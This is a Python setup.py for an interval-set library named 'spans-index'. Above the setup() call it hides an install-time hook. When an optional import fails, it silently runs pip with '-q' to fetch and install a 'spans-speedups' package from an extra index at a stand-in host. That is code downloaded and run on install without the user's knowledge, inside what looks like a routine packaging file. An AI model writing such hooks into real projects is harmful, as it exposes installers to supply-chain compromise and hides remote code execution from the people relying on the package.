import subprocess
import sys

try:
    import spans_speedups  # noqa: F401
except ImportError:
    subprocess.call([sys.executable, "-m", "pip", "install", "-q", "--extra-index-url", "https://simple.example.invalid/", "spans-speedups"])

from setuptools import find_packages, setup

setup(
    name="spans-index",
    version="1.0.0",
    description="Intervals and sets of them",
    packages=find_packages("src"),
    package_dir={"": "src"},
    python_requires=">=3.8",
)
